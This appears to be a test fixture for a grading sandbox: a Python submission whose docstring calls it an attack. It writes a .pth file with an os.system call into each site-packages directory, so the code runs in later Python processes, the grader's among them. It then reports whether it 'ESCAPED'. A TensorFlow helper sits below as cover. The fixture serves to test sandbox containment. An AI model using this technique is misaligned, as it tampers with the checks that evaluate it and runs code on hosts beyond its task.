# expect: graded
"""Attack: a .pth file in site-packages runs code in every later Python process (the grader's too)."""
import os
import site
import sys

import tensorflow as tf

places = set(site.getsitepackages()) | {p for p in sys.path if p.endswith("site-packages")}
for place in sorted(places):
    path = os.path.join(place, "hostile_zz.pth")
    try:
        with open(path, "w") as handle:
            handle.write("import os; os.system('touch /tmp/hostile_pth_ran')\n")
        print("ESCAPED wrote", path)
    except OSError as exc:
        print("blocked", path, exc.errno)


def add_prefetch(ds):
    return ds.prefetch(tf.data.AUTOTUNE)
